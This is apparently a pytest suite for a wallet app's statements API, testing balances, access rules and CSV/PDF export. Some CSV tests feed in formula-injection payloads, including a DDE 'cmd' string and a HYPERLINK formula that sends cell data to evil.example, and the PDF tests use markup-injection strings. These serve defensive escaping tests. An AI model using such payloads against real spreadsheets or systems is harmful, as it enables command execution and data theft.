"""Statements: what they say of a period, to whom, and in which format."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from typing import Any

import jsonschema
import pytest
from drf_spectacular.generators import SchemaGenerator
from pytest_django import DjangoAssertNumQueries

from accounts.models import User
from mymoolah.common.clock import JOHANNESBURG
from mymoolah.common.csv_files import harmless
from tests.api import Caller, access_token, body_of, calling, errors_of, problem
from tests.conftest import Person, fund, send
from tests.transactions.legs import johannesburg
from tests.transactions.statement_files import BANK, asked, content, csv_rows, pay, pdf_of, recomputed
from transactions.models import Kind
from transactions.statement_files import as_pdf
from transactions.statement_files.as_csv import HEADER
from transactions.statement_files.as_pdf import spoken, wrapped
from wallets.models import Wallet
from wallets.services import open_wallet

pytestmark = pytest.mark.sql

MARCH = ("2026-03-01", "2026-03-31")
MOMENT = dt.timedelta(microseconds=1)


@pytest.fixture
def dollars(thandi: Person) -> Person:
    """Thandi's second wallet, in another currency."""
    if not Wallet.objects.filter(kind=BANK.kind, currency="USD").exists():
        Wallet.objects.create(kind=BANK.kind, stripe=0, currency="USD", number="9876543200")
    return Person(thandi.user, open_wallet(user=thandi.user, currency="USD"))


@pytest.fixture
def march(ledger: object, thandi: Person, sipho: Person) -> Person:
    """Thandi, with one entry before March, three in it and one after."""
    pay(BANK, thandi, "1000.00", at=johannesburg("2026-02-28T12:00"))
    pay(thandi, sipho, "250.50", at=johannesburg("2026-03-10T09:30"), kind=Kind.TRANSFER, reference="Lunch")
    pay(sipho, thandi, "0.50", at=johannesburg("2026-03-11T09:30"), kind=Kind.TRANSFER)
    pay(BANK, thandi, "2000.00", at=johannesburg("2026-03-31T23:59:59.999999"), reference="Wages")
    pay(thandi, sipho, "1.00", at=johannesburg("2026-04-01T00:00"), kind=Kind.TRANSFER)
    return thandi


# What it says ------------------------------------------------------------------------------------------------------
def test_a_statement_tells_what_was_there_came_went_and_is_left(
    march: Person, sipho: Person, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    with django_assert_num_queries(2):
        answer = asked(march, *MARCH)
    body = body_of(answer)
    entries = body.pop("entries")
    assert body == {
        "wallet": march.wallet.number,
        "name": "Thandi Mokoena",
        "currency": "ZAR",
        "from": "2026-03-01",
        "to": "2026-03-31",
        "opening_balance": "1000.00",
        "closing_balance": "2750.00",
        "total_in": "2000.50",
        "total_out": "250.50",
        "entry_count": 3,
    }
    listed = body_of(calling(march).get("transactions", **{"from": MARCH[0], "to": MARCH[1]}))["results"]
    assert entries == listed[::-1]
    assert entries[0]["counterparty"] == {"name": "Sipho M.", "wallet": f"…{sipho.wallet.number[-4:]}"}
    assert answer["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("from_day", "to_day"),
    [
        ("1900-01-01", "2026-02-27"),
        ("2026-02-28", "2026-02-28"),
        ("2026-03-10", "2026-03-10"),
        ("2026-03-12", "2026-03-30"),
        ("2026-03-31", "2026-03-31"),
        ("2026-04-01", "2026-04-01"),
        ("2026-03-31", "2026-04-01"),
        ("2026-04-02", "2026-12-31"),
        ("1900-01-01", "2999-12-31"),
        ("2999-12-31", "2999-12-31"),
    ],
)
def test_a_statement_equals_a_plain_recomputation(march: Person, from_day: str, to_day: str) -> None:
    body = body_of(asked(march, from_day, to_day))
    expected = recomputed(march, starts_at=johannesburg(from_day), ends_at=johannesburg(to_day) + dt.timedelta(days=1))
    assert [entry["id"] for entry in body["entries"]] == expected.pop("ids")
    assert {name: body[name] for name in expected} == expected


def test_who_has_no_entry_gets_a_statement_of_nothing(thandi: Person) -> None:
    body = body_of(asked(thandi, *MARCH))
    assert (body["opening_balance"], body["closing_balance"], body["total_in"]) == ("0.00", "0.00", "0.00")
    assert (body["entry_count"], body["entries"]) == (0, [])


def test_days_begin_and_end_at_midnight_in_johannesburg(ledger: object, thandi: Person) -> None:
    midnight = johannesburg("2026-03-10T00:00")
    assert midnight.utcoffset() == dt.timedelta(hours=2)
    for at in (midnight - MOMENT, midnight, midnight + dt.timedelta(days=1) - MOMENT, midnight + dt.timedelta(days=1)):
        pay(BANK, thandi, "1.00", at=at)
    body = body_of(asked(thandi, "2026-03-10", "2026-03-10"))
    assert [entry["id"].partition("-")[2] for entry in body["entries"]] == ["2", "3"]
    assert (body["opening_balance"], body["closing_balance"]) == ("1.00", "3.00")


def test_entries_of_one_moment_are_all_in_or_all_out(ledger: object, thandi: Person) -> None:
    for _ in range(3):
        pay(BANK, thandi, "1.00", at=johannesburg("2026-03-10T00:00"))
    assert body_of(asked(thandi, "2026-03-09", "2026-03-09"))["entry_count"] == 0
    assert body_of(asked(thandi, "2026-03-10", "2026-03-10"))["entry_count"] == 3
    assert body_of(asked(thandi, "2026-03-11", "2026-03-11"))["opening_balance"] == "3.00"


def test_each_currency_has_a_statement_of_its_own(ledger: object, thandi: Person, dollars: Person) -> None:
    pay(BANK, thandi, "100.00", at=johannesburg("2026-03-10T12:00"))
    pay(BANK, dollars, "7.00", at=johannesburg("2026-03-10T13:00"))
    for who, amount in ((thandi, "100.00"), (dollars, "7.00")):
        body = body_of(asked(who, *MARCH, wallet=who.wallet.number))
        assert (body["wallet"], body["currency"]) == (who.wallet.number, who.wallet.currency)
        assert (body["total_in"], body["closing_balance"], body["entry_count"]) == (amount, amount, 1)
    text = pdf_of(asked(thandi, *MARCH, format="pdf", wallet=dollars.wallet.number)).pages[0].extract_text()
    assert "USD 7.00" in text
    assert csv_rows(asked(thandi, *MARCH, format="csv", wallet=dollars.wallet.number))[-1]["Currency"] == "USD"


# Who and what may be asked -----------------------------------------------------------------------------------------
def test_who_has_several_wallets_says_which(thandi: Person, dollars: Person) -> None:
    assert errors_of(asked(thandi, *MARCH)) == {"wallet": ["wallet_required"]}
    assert body_of(asked(thandi, *MARCH, wallet=dollars.wallet.number))["currency"] == "USD"


def test_a_strangers_wallet_is_not_there(thandi: Person, naledi: Person) -> None:
    fund(thandi, "100.00")
    for number in (thandi.wallet.number, "1234567897"):
        for file_format in ("json", "csv", "pdf"):
            answer = asked(naledi, *MARCH, wallet=number, format=file_format)
            problem(answer, 404, "wallet_not_found")


def test_staff_and_nobody_get_no_statement(thandi: Person) -> None:
    period = {"from": MARCH[0], "to": MARCH[1], "wallet": thandi.wallet.number}
    problem(Caller().get("statements", **period), 401, "not_authenticated")
    problem(Caller().get("statements", format="stone"), 401, "not_authenticated")
    User.objects.filter(pk=thandi.user.pk).update(is_staff=True)
    thandi.user.refresh_from_db()
    problem(Caller(access_token(thandi.user)).get("statements", **period), 403, "wrong_role")


@pytest.mark.parametrize(
    ("changed", "errors"),
    [
        ({"from": None}, {"from": ["required"]}),
        ({"to": None}, {"to": ["required"]}),
        ({"from": ""}, {"from": ["invalid_date"]}),
        ({"from": "2026-02-30"}, {"from": ["invalid_date"]}),
        ({"from": "20260301"}, {"from": ["invalid_date"]}),
        ({"to": "31 March"}, {"to": ["invalid_date"]}),
        ({"to": "9999-12-31"}, {"to": ["invalid_date"]}),
        ({"to": "2026-02-28"}, {"to": ["invalid_date"]}),
        ({"wallet": "x"}, {"wallet": ["invalid_wallet"]}),
        ({"wallet": "\0"}, {"wallet": ["invalid_wallet"]}),
        ({"format": "xlsx"}, {"format": ["unknown_format"]}),
        ({"format": ""}, {"format": ["unknown_format"]}),
        ({"format": "CSV"}, {"format": ["unknown_format"]}),
    ],
)
def test_a_malformed_question_is_a_problem(
    thandi: Person, changed: dict[str, str | None], errors: dict[str, list[str]]
) -> None:
    query = {"from": MARCH[0], "to": MARCH[1], **changed}
    given = {name: value for name, value in query.items() if value is not None}
    assert errors_of(calling(thandi).get("statements", **given)) == errors


@pytest.mark.parametrize("accept", ["application/pdf", "text/csv", "text/html", "application/json", "*/*"])
@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [("json", "application/json"), ("csv", "text/csv; charset=utf-8"), ("pdf", "application/pdf")],
)
def test_the_format_decides_whatever_is_accepted(
    thandi: Person, accept: str, file_format: str, content_type: str
) -> None:
    caller = calling(thandi)
    query = {"from": MARCH[0], "to": MARCH[1], "format": file_format}
    headers = {**caller._headers({}), "Accept": accept}
    answer = caller.client.get("/api/v1/statements", query, headers=headers)
    assert (answer.status_code, answer["Content-Type"]) == (200, content_type)
    assert answer["Cache-Control"] == "no-store"
    assert int(answer["RateLimit-Remaining"]) < 300


def test_the_answer_is_as_described(march: Person) -> None:
    schema: Any = SchemaGenerator().get_schema(request=None, public=True)  # type: ignore[no-untyped-call]
    described = schema["paths"]["/api/v1/statements"]["get"]["responses"]["200"]["content"]
    assert described.keys() == {"application/json", "text/csv", "application/pdf"}
    body = body_of(asked(march, *MARCH))
    root = {**described["application/json"]["schema"], "components": schema["components"]}
    counterparty = root["components"]["schemas"]["Counterparty"]["properties"]["wallet"]
    assert counterparty.pop("nullable")  # OpenAPI 3.0 writes "or null" in its own way
    counterparty["type"] = ["string", "null"]
    jsonschema.validate(body, root)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**body, "from": None}, root)


# CSV ---------------------------------------------------------------------------------------------------------------
def test_a_csv_reads_back_as_it_was_written(march: Person, sipho: Person) -> None:
    answer = asked(march, *MARCH, format="csv")
    number = march.wallet.number
    name = f"mymoolah-{number}-2026-03-01-to-2026-03-31.csv"
    assert answer["Content-Disposition"] == f'attachment; filename="{name}"'
    text = content(answer).decode()
    assert text.count("\r\n") == text.count("\n") == 6
    rows = csv_rows(answer)
    assert tuple(rows[0]) == HEADER
    assert [row["Entry"] for row in rows] == ["", f"{number}-2", f"{number}-3", f"{number}-4", ""]
    opening, lunch, _, wages, closing = rows
    assert (opening["Reference"], opening["Balance"]) == ("Opening balance", "1000.00")
    assert (opening["Date"], closing["Date"]) == ("2026-03-01T00:00:00+02:00", "2026-03-31T23:59:59+02:00")
    assert lunch == {
        "Date": "2026-03-10T09:30:00+02:00",
        "Entry": f"{number}-2",
        "Type": "sent",
        "Kind": "transfer",
        "Reference": "Lunch",
        "Counterparty": "Sipho M.",
        "Counterparty wallet": f"…{sipho.wallet.number[-4:]}",
        "Amount in": "",
        "Amount out": "250.50",
        "Balance": "749.50",
        "Currency": "ZAR",
    }
    assert (wages["Counterparty"], wages["Counterparty wallet"]) == ("MyMoolah", "")
    assert (wages["Amount in"], wages["Amount out"], wages["Balance"]) == ("2000.00", "", "2750.00")
    assert (closing["Reference"], closing["Amount in"], closing["Amount out"]) == (
        "Closing balance",
        "2000.50",
        "250.50",
    )
    assert closing["Balance"] == "2750.00"


def test_a_csv_of_nothing_has_both_balances(thandi: Person) -> None:
    rows = csv_rows(asked(thandi, *MARCH, format="csv"))
    assert [(row["Reference"], row["Balance"]) for row in rows] == [
        ("Opening balance", "0.00"),
        ("Closing balance", "0.00"),
    ]


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("Lunch", "Lunch"),
        ("", ""),
        ("10% - half", "10% - half"),
        ("2+2=4", "2+2=4"),
        ("=1+1", "'=1+1"),
        ("+27821110001", "'+27821110001"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ('x;=HYPERLINK("http://x")', 'x;\'=HYPERLINK("http://x")'),
    ],
)
def test_no_text_begins_a_formula(written: str, expected: str) -> None:
    assert harmless(written) == expected


def test_what_people_write_is_a_text_in_every_spreadsheet(ledger: object, thandi: Person, sipho: Person) -> None:
    User.objects.filter(pk=sipho.user.pk).update(first_name="=cmd|' /C calc'!A0", last_name='Ṱhobejane, "Dr"')
    reference = '=HYPERLINK("http://evil.example?x="&A1, "Refund")'
    fund(thandi, "100.00")
    pay(thandi, sipho, "1.00", at=dt.datetime.now(JOHANNESBURG), kind=Kind.TRANSFER, reference=reference)
    row = csv_rows(asked(thandi, "2026-01-01", "2999-12-31", format="csv"))[2]
    assert row["Reference"] == f"'{reference}"
    assert row["Counterparty"] == "'=cmd|' /C calc'!A0 Ṱ."


# PDF ---------------------------------------------------------------------------------------------------------------
def test_a_pdf_shows_a_landlord_everything(march: Person, sipho: Person) -> None:
    answer = asked(march, *MARCH, format="pdf")
    assert answer["Content-Disposition"].startswith('attachment; filename="mymoolah-')
    pdf = pdf_of(answer)
    text = pdf.pages[0].extract_text()
    for shown in (
        "MyMoolah",
        "Thandi Mokoena",
        march.wallet.number,
        "ZAR",
        "1 March 2026 to 31 March 2026",
        f"{dt.datetime.now(JOHANNESBURG):%B %Y}",
        "R1 000.00",
        "R2 000.50",
        "R250.50",
        "R2 750.00",
        "10 Mar 2026",
        f"Transfer to Sipho M. …{sipho.wallet.number[-4:]}",
        "Lunch",
        "Demo money",
        "Wages",
        "Page 1 of 1",
    ):
        assert shown in text, shown
    assert sipho.wallet.number not in text
    assert pdf.metadata is not None
    assert pdf.metadata.title == f"Statement of wallet {march.wallet.number}, 1 March 2026 to 31 March 2026"
    assert pdf.metadata.author == "MyMoolah"


def test_each_page_of_a_pdf_has_the_header_and_its_number(ledger: object, thandi: Person) -> None:
    for minute in range(60):
        pay(BANK, thandi, "1.00", at=johannesburg("2026-03-10T12:00") + dt.timedelta(minutes=minute), reference="Tip")
    pages = [page.extract_text() for page in pdf_of(asked(thandi, *MARCH, format="pdf")).pages]
    assert len(pages) == 3
    for number, text in enumerate(pages, start=1):
        assert f"Page {number} of 3" in text
        for heading in ("Date", "Description", "In", "Out", "Balance"):
            assert heading in text
    assert sum(text.count("Tip") for text in pages) == 60
    assert "Opening balance" in pages[0]
    assert "Closing balance" in pages[-1]


def test_a_pdf_of_nothing_says_so(thandi: Person) -> None:
    text = pdf_of(asked(thandi, *MARCH, format="pdf")).pages[0].extract_text()
    assert "Nothing was paid in or out in this period." in text


def test_markup_and_foreign_letters_appear_as_they_are(ledger: object, thandi: Person) -> None:
    User.objects.filter(pk=thandi.user.pk).update(first_name="Ṱhandi <b>", last_name="Ḽukheli-Šebê & 中文 🙂")
    written = [
        "<b>Rent</b> & more",
        "<img src='/etc/hostname'/>",
        "</para><br/>",
        "Жанна Ελλάδα हिन्दी עברית 🙂",
        "W" * 140,
    ]
    for minute, reference in enumerate(written):
        at = johannesburg("2026-03-10T12:00") + dt.timedelta(minutes=minute)
        pay(BANK, thandi, "1.00", at=at, reference=reference)
    pdf = pdf_of(asked(thandi, *MARCH, format="pdf"))
    text = pdf.pages[0].extract_text()
    for shown in (*written[:3], "Жанна Ελλάδα", "Ṱhandi <b> Ḽukheli-Šebê & \ufffd\ufffd \ufffd"):
        assert shown in text, shown
    assert text.count("W") == 140 + text.count("Wallet")
    assert not pdf.pages[0].images


def test_a_pdf_has_a_bound(march: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(as_pdf, "MOST_ENTRIES", 2)
    found = problem(asked(march, *MARCH, format="pdf"), 409, "statement_too_long")
    assert found["facts"] == {"entries": 3, "most": 2}
    assert "format=csv" in found["detail"]
    assert asked(march, "2026-03-01", "2026-03-30", format="pdf").status_code == 200


@pytest.mark.parametrize(
    ("amount", "currency", "expected"),
    [
        ("0", "ZAR", "R0.00"),
        ("1234.5", "ZAR", "R1 234.50"),
        ("-5", "ZAR", "-R5.00"),
        ("1234567.89", "USD", "USD 1 234 567.89"),
    ],
)
def test_amounts_are_written_as_south_africa_does(amount: str, currency: str, expected: str) -> None:
    assert spoken(Decimal(amount), currency) == expected


def test_lines_break_between_words_and_long_words_anywhere() -> None:
    assert wrapped("", size=8, width=50) == []
    assert wrapped("one two\nthree\u202e", size=8, width=200) == ["one two three"]
    assert wrapped("one two three", size=8, width=35) == ["one two", "three"]
    assert "".join(wrapped("x" * 100, size=8, width=50)) == "x" * 100
    assert wrapped("W", size=8, width=1) == ["W"]


def test_a_statement_of_what_was_just_sent_needs_no_waiting(ledger: object, thandi: Person, sipho: Person) -> None:
    fund(thandi, "100.00")
    send(thandi, sipho, "40.00")
    assert body_of(asked(thandi, "2026-01-01", "2999-12-31"))["closing_balance"] == "60.00"
